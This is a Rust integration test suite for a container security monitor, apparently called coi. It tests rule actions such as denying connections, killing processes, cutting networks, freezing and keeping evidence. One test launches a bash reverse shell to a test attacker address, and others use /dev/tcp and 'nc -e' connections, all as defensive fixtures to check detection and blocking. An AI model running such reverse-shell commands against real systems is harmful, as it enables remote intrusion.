//! What rules can ask for beyond the ladder: a refused connection, a process ended, a network cut; what follows an action
//! that fails; a burst; a person's own freeze.

#![expect(clippy::unwrap_used, reason = "what fails here is a test")]

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use coi_tests::attacker::{fill, serve};
use coi_tests::incus::{self, Foreign, bridge, cgroups};
use coi_tests::routes::PROGRAM;
use coi_tests::{
    Attacker, Cgroup, Coi, Gate, Running, SMALL, TINY, Viewer, actions, alerts, audit, end, eventually, fired,
};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// A rule about a file of this name.
fn rule(id: &str, severity: &str, action: &str) -> String {
    format!(
        "[[rule]]\nid = \"{id}\"\ntitle = \"t\"\nseverity = \"{severity}\"\naction = \"{action}\"\nevent = \"open\"\n\
         condition = \"file.name == '{id}'\"\n"
    )
}

/// Answers each line with the same line, and counts who comes.
fn echo(ip: Ipv4Addr) -> (SocketAddrV4, Arc<AtomicUsize>) {
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    let answer = move |mut peer: TcpStream| {
        counted.fetch_add(1, Ordering::Relaxed);
        for line in BufReader::new(peer.try_clone().unwrap()).lines() {
            let Ok(line) = line else { return };
            if writeln!(peer, "{line}").is_err() {
                return;
            }
        }
    };
    (serve(ip, answer), count)
}

/// What was done about an alert of this rule.
#[track_caller]
fn action(audit: &[Value], rule: &str) -> Value {
    alerts(audit).find(|alert| alert["rule"]["id"] == rule).unwrap()["coi"]["action"].clone()
}

#[test]
fn a_denied_connection_is_not_made_and_another_is() {
    let coi = Coi::new();
    let (denied, came) = echo(bridge());
    let (open, _) = echo(bridge());
    coi.user_rules(
        "deny.toml",
        &fill(
            denied,
            "[[rule]]\nid = \"no-such-place\"\ntitle = \"t\"\nseverity = \"warning\"\naction = \"deny\"\nevent = \"connect\"\n\
             condition = \"destination.ip in cidr ['HOST/32'] and destination.port == PORT\"\n\
             suppress = { for = \"0s\" }\n",
        ),
    );
    let script = "(exec 3<>/dev/tcp/HOST/PORT) 2>&1; (echo x >/dev/udp/HOST/PORT) 2>&1; \
                  exec 3<>/dev/tcp/HOST/OPEN; echo on >&3; read line <&3; echo $line";
    let script = fill(denied, script).replace("OPEN", &open.port().to_string());
    let ended = coi.run(SMALL, &["bash", "-c", &script]).expect(0);
    let text = ended.text();
    // Bash says each twice.
    assert_eq!(text.matches("Operation not permitted").count(), 4, "{text}");
    assert!(text.ends_with("\non\n"), "{text}");
    assert!(ended.stderr.contains("coi: warning: rule no-such-place: "), "{}", ended.stderr);
    assert!(ended.stderr.contains("; refused"), "{}", ended.stderr);
    assert_eq!(came.load(Ordering::Relaxed), 0);
    let audit = coi.audit(&coi.container());
    let refused = ("no-such-place".to_owned(), "deny".to_owned(), "success".to_owned());
    // TCP, UDP.
    assert_eq!(actions(&audit), vec![refused; 2], "{:#?}", alerts(&audit).collect::<Vec<_>>());
    assert!(audit.iter().all(|record| record["coi"]["state"] != "frozen"));
}

#[test]
fn what_is_denied_is_refused_under_every_name_of_the_address() {
    let coi = Coi::new();
    let (place, came) = echo(Ipv4Addr::LOCALHOST);
    coi.user_rules(
        "deny.toml",
        &fill(
            place,
            "[[rule]]\nid = \"local\"\ntitle = \"t\"\nseverity = \"warning\"\naction = \"deny\"\nevent = \"connect\"\n\
             condition = \"destination.ip == '127.0.0.1' and destination.port == PORT\"\n",
        ),
    );
    // A watched command of this machine; nothing of another one is touched.
    let script = "for host in 127.0.0.1 0.0.0.0 ::ffff:127.0.0.1 ::ffff:0.0.0.0; do \
                  (exec 3<>/dev/tcp/$host/PORT) 2>&1 | grep -m1 -c 'not permitted'; done";
    let ended = coi.coi(&["watch", "--", "bash", "-c", &fill(place, script)]);
    assert_eq!(ended.text(), "1\n1\n1\n1\n", "{}", ended.stderr);
    assert_eq!(came.load(Ordering::Relaxed), 0);
    TcpStream::connect(place).unwrap();
}

/// Each way of beginning a TCP connection that there is.
const WAYS: [&str; 11] = [
    "connect",
    "connect-ipv6",
    "connect-mapped",
    "connect-mptcp",
    "connect-int80",
    "connect-int80-socketcall",
    "connect-io-uring",
    "connect-io-uring-async",
    "connect-io-uring-sqpoll",
    "connect-fastopen",
    "connect-deferred",
];

#[test]
fn what_is_denied_is_told_once_by_whatever_way() {
    let coi = Coi::with_daemon(&[]);
    coi.user_rules(
        "deny.toml",
        "[[rule]]\nid = \"nowhere\"\ntitle = \"t\"\nseverity = \"warning\"\naction = \"deny\"\nevent = \"connect\"\n\
         condition = \"destination.ip in cidr ['127.0.0.0/8', '::1/128']\"\nsuppress = { for = \"0s\" }\n",
    );
    for way in WAYS {
        let said = coi.coi(&["watch", "--", PROGRAM, way]).expect(0).text();
        let report: Value = serde_json::from_str(&said).unwrap();
        assert_eq!(report["errno"], 1, "{report:#}");
        // The newest log of a watched command is this one's.
        let logs = audit::logs(&coi.daemon().logs());
        let told: Vec<_> = logs
            .values()
            .flat_map(|records| alerts(records))
            .filter(|alert| {
                alert["process"]["args"].as_array().is_some_and(|args| args.contains(&way.into()))
            })
            .map(|alert| {
                (&alert["rule"]["id"], &alert["coi"]["action"]["name"], &alert["destination"]["port"])
            })
            .collect();
        let wanted = (&"nowhere".into(), &"deny".into(), &report["port"]);
        assert_eq!(told, [wanted], "{way}: {report:#}");
    }
}

#[test]
fn what_the_kernel_cannot_decide_cannot_be_denied() {
    let coi = Coi::new();
    coi.user_rules(
        "deny.toml",
        "[[rule]]\nid = \"curl\"\ntitle = \"t\"\nseverity = \"warning\"\naction = \"deny\"\nevent = \"connect\"\n\
         condition = \"destination.port == 443 and process.name == 'curl'\"\n",
    );
    let words =
        "`deny` cannot be decided in the kernel: `process.name` is not known when a connection begins";
    coi.coi(&["watch", "--", "true"]).expect(6).says(words);
}

#[test]
fn a_process_is_ended_with_all_that_it_has_started_and_nothing_else() {
    let coi = Coi::new();
    coi.user_rules("kill.toml", &rule("fatal", "high", "kill-process"));
    coi.write("fatal", "");
    // One child of its own, one whose parent is gone and that is in a session of its own.
    let doomed = "sleep 1000 & (setsid sleep 1001 & :); setsid sh -c 'setsid sleep 1002 & wait' & \
                  until pgrep -f 'sleep 100[2]' >/dev/null; do :; done; : <fatal; wait";
    let script = format!(
        "cp /bin/bash doomed; sleep 1003 & ./doomed -c \"{doomed}\"; echo ended $?; \
         for pid in $(cat {}/$(sed -n 's/^0:://p' /proc/self/cgroup)/cgroup.procs); do \
         tr '\\0' ' ' <\"/proc/$pid/cmdline\" | grep -ox 'sleep 100. '; done; kill %1",
        cgroups().display()
    );
    let ended = coi.coi(&["watch", "--", "bash", "-c", &script]).expect(0);
    assert_eq!(ended.text(), "ended 137\nsleep 1003 \n", "{}", ended.stderr);
    assert!(ended.stderr.contains("ended the process and what it had started"), "{}", ended.stderr);
    // It is over; the newest log of a watched command is this one's.
    let logs = audit::logs(&coi.daemon().logs());
    let log = logs.values().find(|records| fired(records).contains("fatal")).unwrap();
    assert_eq!(actions(log), [("fatal".into(), "kill-process".into(), "success".into())]);
}

#[test]
fn a_network_is_cut_and_given_back() {
    let coi = Coi::new();
    let name = coi.container();
    let (place, _) = echo(bridge());
    coi.user_rules("cut.toml", &rule("trip", "high", "cut-network"));
    coi.write("trip", "");
    let gates = ["cut", "back"].map(|name| Gate::new(&coi, name));
    let script = "exec 3<>/dev/tcp/HOST/PORT; echo one >&3; read line <&3; echo $line; : <trip; read x <cut; \
                  echo two >&3; read -t 1 line <&3 || echo silence; \
                  (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -m1 -o 'not permitted'; \
                  echo x >/dev/udp/127.0.0.1/9 && echo loopback; read x <back; \
                  read line <&3; echo $line; exec 5<>/dev/tcp/HOST/PORT && echo again";
    let run = coi.start(&["run", "--image", SMALL, "--", "bash", "-c", &fill(place, script)]);
    let [cut, back] = gates;
    let cut = cut.reached();
    eventually("the network is cut", || coi.ask(&format!("/v1/watches/{name}")).1["network_cut"] == true);
    assert_eq!(incus::status(&name), "Running");
    cut.open();
    let back = back.reached();
    coi.coi(&["unfreeze", &name]).expect(0);
    assert_eq!(coi.ask(&format!("/v1/watches/{name}")).1["network_cut"], false);
    back.open();
    let ended = run.finish().expect(0);
    assert_eq!(ended.text(), "one\nsilence\nnot permitted\nloopback\ntwo\nagain\n", "{}", ended.stderr);
    assert!(ended.stderr.contains("cut its network"), "{}", ended.stderr);
    let audit = coi.audit(&name);
    assert_eq!(actions(&audit), [("trip".into(), "cut-network".into(), "success".into())]);
    let restored =
        audit::of_kind(&audit, "action").find(|record| record["coi"]["action"]["name"] == "restore-network");
    assert!(restored.is_some());
}

/// A container whose network a rule has cut.
struct Severed {
    container: Foreign,
    place: SocketAddrV4,
    came: Arc<AtomicUsize>,
}

impl Severed {
    fn by(coi: &Coi) -> Self {
        let (place, came) = echo(bridge());
        coi.user_rules("cut.toml", &rule("severed", "high", "cut-network"));
        let container = Foreign::make(TINY);
        container.start();
        coi.coi(&["monitor", "--attach", &container.name, "--respond", "--detach"]).expect(0);
        container.incus(&["exec", &container.name, "--", "sh", "-c", ": >/tmp/severed"]);
        let this = Self { container, place, came };
        eventually("the network is cut", || this.watch(coi)["network_cut"] == true);
        this
    }

    fn watch(&self, coi: &Coi) -> Value {
        coi.ask(&format!("/v1/watches/{}", self.container.name)).1
    }

    #[track_caller]
    fn assert_cut(&self, coi: &Coi) {
        assert_eq!(self.watch(coi)["network_cut"], true);
        let connect = ["exec", &self.container.name, "--", "nc", "HOST", "PORT", "-e", "true"];
        let connect = connect.map(|word| fill(self.place, word));
        let refused = end(&mut incus::incus(&connect.each_ref().map(String::as_str)));
        assert!(refused.code != 0 && refused.stderr.contains("Operation not permitted"), "{refused:#?}");
        assert_eq!(self.came.load(Ordering::Relaxed), 0);
    }
}

#[test]
fn a_restart_does_not_give_the_network_back() {
    let coi = Coi::new();
    let severed = Severed::by(&coi);
    severed.container.incus(&["restart", "--force", &severed.container.name]);
    eventually("it is seen to run again", || severed.watch(&coi)["state"] == "running");
    severed.assert_cut(&coi);
}

#[test]
fn a_daemons_end_does_not_give_the_network_back() {
    // A daemon of its own: others must not lose theirs.
    let coi = Coi::with_daemon(&[]);
    let severed = Severed::by(&coi);
    coi.daemon().kill();
    coi.daemon().start_again();
    severed.assert_cut(&coi);
    coi.coi(&["unfreeze", &severed.container.name]).expect(0);
    coi.daemon().kill();
    coi.daemon().start_again();
    assert_eq!(severed.watch(&coi)["network_cut"], false);
}

/// A freeze that cannot be written: the file takes nothing.
struct NoFreeze<'a>(&'a Cgroup);

impl<'a> NoFreeze<'a> {
    fn of(cgroup: &'a Cgroup) -> Self {
        let this = Self(cgroup);
        let mut mount = Command::new("mount");
        end(mount.args(["--bind", "/dev/full"]).arg(this.file())).expect(0);
        this
    }

    fn file(&self) -> std::path::PathBuf {
        self.0.path().join("cgroup.freeze")
    }
}

impl Drop for NoFreeze<'_> {
    fn drop(&mut self) {
        // The daemon has it open.
        end(Command::new("umount").arg("--lazy").arg(self.file())).expect(0);
    }
}

#[test]
fn what_cannot_be_frozen_is_killed() {
    let coi = Coi::new();
    coi.user_rules("freeze.toml", &rule("trip", "high", "freeze"));
    coi.write("trip", "");
    let cgroup = Cgroup::make("escalates");
    let no_freeze = NoFreeze::of(&cgroup);
    coi.coi(&["monitor", "--cgroup", cgroup.path().to_str().unwrap(), "--respond", "--detach"]).expect(0);
    let mut command = cgroup.command("{ sleep 1000 & : <trip; wait; }");
    let ended = Running::start(command.current_dir(coi.workspace())).finish();
    assert_eq!(ended.code, 137);
    let name = cgroup.name();
    eventually("it is killed", || coi.ask(&format!("/v1/watches/{name}")).1["state"] == "killed");
    let audit = coi.audit(&name);
    assert_eq!(actions(&audit), [("trip".into(), "kill".into(), "success".into())]);
    let attempts = action(&audit, "trip")["attempts"].clone();
    let told: Vec<_> = attempts
        .as_array()
        .unwrap()
        .iter()
        .map(|attempt| (&attempt["name"], &attempt["result"], &attempt["tries"]))
        .collect();
    assert_eq!(
        told,
        [(&"freeze".into(), &"failure".into(), &3.into()), (&"kill".into(), &"success".into(), &1.into())]
    );
    assert!(attempts[0]["error"].as_str().unwrap().contains("cannot write 1 to cgroup.freeze"), "{attempts}");
    drop(no_freeze);
}

/// A cgroup that there is in version 1's hierarchy of the freezer, too.
struct InBoth {
    cgroup: Cgroup,
    freezer: std::path::PathBuf,
}

impl InBoth {
    /// `None` where there is no such hierarchy.
    fn make(name: &str) -> Option<Self> {
        let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
        let root = mounts.lines().find_map(|mount| {
            let (left, right) = mount.split_once(" - ")?;
            let is_it = right.starts_with("cgroup ") && right.split([',', ' ']).any(|word| word == "freezer");
            is_it.then(|| left.split(' ').nth(4).unwrap().to_owned())
        })?;
        let cgroup = Cgroup::make(name);
        let freezer = Path::new(&root).join(cgroup.name());
        fs::create_dir(&freezer).unwrap();
        Some(Self { cgroup, freezer })
    }

    /// What the two say of it.
    fn states(&self) -> (bool, String) {
        let events = fs::read_to_string(self.cgroup.path().join("cgroup.events")).unwrap();
        let state = fs::read_to_string(self.freezer.join("freezer.state")).unwrap();
        (events.contains("frozen 1"), state.trim_end().to_owned())
    }

    /// The kernel says that it is thawed when the first process has gone on, not when that is written.
    fn await_thawed(&self) {
        eventually("both are thawed", || self.states() == (false, "THAWED".to_owned()));
    }

    fn shell(&self, line: &str) -> Command {
        self.cgroup.command(&format!("echo $$ >'{}/cgroup.procs' && {line}", self.freezer.display()))
    }
}

impl Drop for InBoth {
    fn drop(&mut self) {
        let _ = fs::write(self.freezer.join("freezer.state"), "THAWED");
        let _ = fs::write(self.cgroup.path().join("cgroup.kill"), "1");
        eventually("the freezer's cgroup can go", || fs::remove_dir(&self.freezer).is_ok());
    }
}

/// On a machine with version 2 alone there is nothing to be seen of this.
#[test]
fn where_there_is_a_freezer_of_version_1_both_are_set() {
    let Some(both) = InBoth::make("both") else { return };
    let coi = Coi::with_daemon(&[]);
    coi.user_rules("both.toml", &(rule("trip", "high", "freeze") + &rule("ended", "high", "kill-process")));
    coi.write("ended", "");
    let name = both.cgroup.name();
    let how = ["--respond", "--on-monitor-loss", "freeze", "--detach"];
    coi.coi(&[&["monitor", "--cgroup", both.cgroup.path().to_str().unwrap()][..], &how].concat()).expect(0);
    let state = || coi.ask(&format!("/v1/watches/{name}")).1["state"].clone();
    // Many, so that some are caught in the middle of something.
    let line =
        "for ((i = 0; i < 50; i++)); do sleep 1000 & done; while :; do [ -e go ] && rm go && : >trip; done";
    let mut shell = both.shell(line).current_dir(coi.workspace()).spawn().unwrap();
    for round in 0..5 {
        fs::write(coi.workspace().join("go"), "").unwrap();
        eventually("a rule has frozen it", || state() == "frozen");
        assert_eq!(both.states(), (true, "FROZEN".to_owned()), "round {round}");
        coi.coi(&["unfreeze", &name]).expect(0);
        both.await_thawed();
    }
    // One of many ends, and the others go on.
    end(both.shell("sh -c ': <ended; sleep 1000'").current_dir(coi.workspace())).expect(137);
    both.await_thawed();
    // A daemon that dies before that leaves it standing still, since nobody knows what was done.
    eventually("it is on record", || actions(&coi.audit(&name)).iter().any(|(rule, ..)| rule == "ended"));
    // The guard does the same.
    coi.daemon().kill();
    eventually("it is frozen in both", || both.states() == (true, "FROZEN".to_owned()));
    coi.daemon().start_again();
    both.await_thawed();
    // What stands still in both is ended all the same.
    coi.coi(&["freeze", &name]).expect(0);
    assert_eq!(both.states(), (true, "FROZEN".to_owned()));
    let killed = incus::call(coi.daemon().socket(), "POST", &format!("/v1/watches/{name}/kill"));
    assert_eq!(killed.0, 200, "{killed:?}");
    shell.wait().unwrap();
    let done = actions(&coi.audit(&name));
    assert!(done.iter().all(|(_, action, result)| action != "kill" && result == "success"), "{done:?}");
}

#[test]
fn evidence_is_kept_before_a_kill() {
    let coi = Coi::new();
    let name = coi.container();
    let attacker = Attacker::on_bridge();
    let (there, gate) = (Gate::new(&coi, "there"), Gate::new(&coi, "gate"));
    // Somebody else there has a secret in his arguments.
    let script = "bash -c 'read x <there; sleep 1000; :' x --password=hunter2hunter2 & \
                  exec 7</etc/hostname; read x <gate; bash -i >& /dev/tcp/HOST/PORT 0>&1";
    coi.write("script", attacker.fill(script));
    let run = coi.start(&["run", "--image", SMALL, "--", "bash", "script"]);
    there.reached().open();
    gate.reached().open();
    coi.assert_killed(run.finish(), "reverse-shell-socket");
    let records = coi.audit(&name);
    let alert = alerts(&records).find(|alert| alert["coi"]["action"]["name"] == "kill").unwrap();
    let kept = &alert["coi"]["action"]["evidence"];
    let file = Path::new(kept["file"].as_str().unwrap());
    let text = fs::read(file).unwrap();
    let digest: String = Sha256::digest(&text).iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!((&kept["sha256"], &kept["bytes"]), (&digest.into(), &text.len().into()));
    let mode = fs::metadata(file).unwrap();
    assert_eq!((mode.uid(), mode.permissions().mode() & 0o007), (0, 0));
    let said: Value = serde_json::from_slice(&text).unwrap();
    assert_eq!((&said["rule"]["id"], &said["coi"]["clock"]), (&alert["rule"]["id"], &alert["coi"]["clock"]));
    assert_eq!((&said["found"]["frozen"], &said["found"]["complete"]), (&true.into(), &true.into()));
    let processes = said["found"]["processes"].as_array().unwrap();
    let remote = attacker.address.to_string();
    let shell = processes.iter().find(|process| {
        process["sockets"].as_array().unwrap().iter().any(|socket| socket["remote"] == remote.as_str())
    });
    let shell = shell.unwrap_or_else(|| panic!("no socket to {remote}: {said:#}"));
    assert!(shell["stdio"][0].as_str().unwrap().ends_with(&format!("tcp {remote}")), "{shell:#}");
    assert_eq!(shell["working_directory"], "/workspace");
    let opens = |process: &&Value| {
        process["files"]
            .as_array()
            .unwrap()
            .iter()
            .any(|file| file["path"].as_str().unwrap().ends_with("/etc/hostname"))
    };
    assert!(processes.iter().any(|process| opens(&process)), "{said:#}");
    let args = |process: &Value| process["args"].to_string();
    assert!(processes.iter().any(|process| args(process).contains("--password=[redacted]")), "{said:#}");
    assert!(!String::from_utf8_lossy(&text).contains("hunter2"));
    let actions: Vec<_> =
        said["events"].as_array().unwrap().iter().map(|event| event["event"]["action"].clone()).collect();
    assert!(actions.contains(&"exec".into()) && actions.contains(&"connect".into()), "{actions:?}");

    let listed = coi.coi(&["audit", "evidence", &name]).expect(0).text();
    assert!(listed.contains("reverse-shell-socket: ") && listed.lines().count() == 1, "{listed}");
    let id = alert["coi"]["clock"].to_string();
    assert_eq!(coi.coi(&["audit", "evidence", &name, &id]).expect(0).stdout, text);
    coi.coi(&["audit", "evidence", &name, "1"]).expect(5).says("there is no evidence 1 of");
}

#[test]
fn who_is_to_be_told_is_told() {
    let directory = tempfile::tempdir().unwrap();
    let told = directory.path().join("told");
    let config = directory.path().join("config.toml");
    let sinks = format!(
        "[[notify]]\nseverity = \"high\"\ncommand = [\"/bin/sh\", \"-c\", \"id -u >>{0}; cat >>{0}\"]\nuser = \"root\"\n\
         [[notify]]\ncommand = [\"/bin/false\"]\n[[notify]]\ndesktop = true\n",
        told.display()
    );
    fs::write(&config, sinks).unwrap();
    let coi = Coi::with_daemon(&["--config", config.to_str().unwrap()]);
    coi.user_rules("trip.toml", &(rule("told", "high", "notify") + &rule("mild", "warning", "notify")));
    coi.write("told", "");
    coi.write("mild", "");
    let cgroup = Cgroup::make("told");
    coi.coi(&["monitor", "--cgroup", cgroup.path().to_str().unwrap(), "--respond", "--detach"]).expect(0);
    end(cgroup.command(": <mild; : <told").current_dir(coi.workspace())).expect(0);
    let read = || fs::read_to_string(&told).unwrap_or_default();
    eventually("the command was run", || read().ends_with("}\n"));
    let (uid, line) = read().split_once('\n').map(|(uid, line)| (uid.to_owned(), line.to_owned())).unwrap();
    assert_eq!((uid.as_str(), line.lines().count()), ("0", 1), "{line}");
    let alert: Value = serde_json::from_str(&line).unwrap();
    assert_eq!((&alert["rule"]["id"], &alert["coi"]["record"]), (&"told".into(), &"alert".into()));
    // What could not tell is told.
    let complaint = "an alert could not be told by the command /bin/false: /bin/false ended with exit code 1";
    eventually("the failures are written down", || {
        let records = coi.audit(&cgroup.name());
        audit::of_kind(&records, "note").filter(|note| note["coi"]["message"] == complaint).count() == 2
    });
}

/// Rules in a directory, for a daemon.
fn rules(text: &str) -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("rules.toml"), text).unwrap();
    directory
}

fn at(directory: &Path) -> [&str; 2] {
    ["--rules", directory.to_str().unwrap()]
}

#[test]
fn a_thousand_alerts_at_once_and_one_freeze() {
    let all: String = (0..1000)
        .map(|n| rule("trip", "high", "freeze").replacen("\"trip\"", &format!("\"trip-{n}\""), 1))
        .collect();
    let many = "[[rule]]\nid = \"many\"\ntitle = \"t\"\nseverity = \"warning\"\nevent = \"open\"\n\
                condition = \"file.name starts_with 'many-'\"\nsuppress = { for = \"1h\", by = [\"file.name\"] }\n";
    let directory = rules(&(all + many));
    let coi = Coi::with_daemon(&at(directory.path()));
    let name = coi.container();
    coi.write("trip", "");
    let (go, again) = (Gate::new(&coi, "go"), Gate::new(&coi, "again"));
    let _never = Gate::new(&coi, "never");
    // A thousand about as many files, each told once though it is opened twice; then a thousand about one.
    let script = "read x <go; n=0; while [ $n -lt 1000 ]; do : >/tmp/many-$n; : >/tmp/many-$n; n=$((n+1)); done; \
                  : <trip; read x <again; sh -c ': <trip; read x <never'; true";
    let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", script]);
    let go = go.reached();
    let viewer = Viewer::start(&coi, &["monitor", "--attach", &name, "--format", "json"]);
    go.open();
    viewer.until_state("frozen");
    incus::assert_still(&name);
    let told = |audit: &[Value], prefix: &str| {
        alerts(audit).filter(|alert| alert["rule"]["id"].as_str().unwrap().starts_with(prefix)).count()
    };
    eventually("all alerts are written", || told(&coi.audit(&name), "trip-") == 1000);
    let records = coi.audit(&name);
    assert_eq!(told(&records, "many"), 1000);
    assert_eq!(actions(&records).len(), 1, "one freeze");
    let sequence: Vec<_> =
        records.iter().map(|record| record["event"]["sequence"].as_u64().unwrap()).collect();
    assert_eq!(sequence, (1..=records.len() as u64).collect::<Vec<_>>());
    let clocks: Vec<_> = alerts(&records).map(|alert| alert["coi"]["clock"].as_u64().unwrap()).collect();
    assert!(clocks.is_sorted(), "alerts are in the order of what they are about");
    assert!(audit::of_kind(&records, "gap").next().is_none());
    coi.coi(&["audit", "verify", &name]).expect(0);

    // Thawed, it is armed again; and what was held back is told.
    coi.coi(&["unfreeze", &name]).expect(0);
    viewer.until_state("running");
    again.reached().open();
    viewer.until_state("frozen");
    eventually("all alerts are written", || told(&coi.audit(&name), "trip-") == 2000);
    let records = coi.audit(&name);
    assert_eq!(actions(&records).len(), 2);
    let held_back = audit::of_kind(&records, "note").any(|note| {
        note["coi"]["message"].as_str().unwrap().starts_with("rule many: 1000 more alerts were not repeated")
    });
    assert!(held_back, "what was not repeated is told");
    coi.coi(&["kill", &name]).expect(0);
    run.finish().expect(1);
}

#[test]
fn a_person_freezes_and_thaws() {
    let coi = Coi::new();
    let name = coi.container();
    let (first, second) = (Gate::new(&coi, "first"), Gate::new(&coi, "second"));
    let script = "read x <first; read x <second; echo through";
    let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", script]);
    let first = first.reached();
    coi.coi(&["freeze", &name])
        .expect(0)
        .says(&format!("coi: froze {name}. Let it go on with `coi unfreeze {name}`"));
    assert_eq!(incus::status(&name), "Frozen");
    incus::assert_still(&name);
    first.open();
    coi.coi(&["unfreeze", &name]).expect(0).says(&format!("coi: {name} goes on"));
    second.reached().open();
    let ended = run.finish().expect(0);
    assert_eq!(ended.text(), "through\n");
    let said = [format!("coi: {name}: frozen by a person\n"), format!("coi: {name} goes on\n")].concat();
    assert!(ended.stderr.contains(&said), "{}", ended.stderr);
    let audit = coi.audit(&name);
    let done: Vec<_> =
        audit::of_kind(&audit, "action").map(|record| record["coi"]["action"]["name"].clone()).collect();
    assert_eq!(done, ["freeze", "thaw"]);
    coi.coi(&["freeze", "no-such-container"]).expect(5);
}
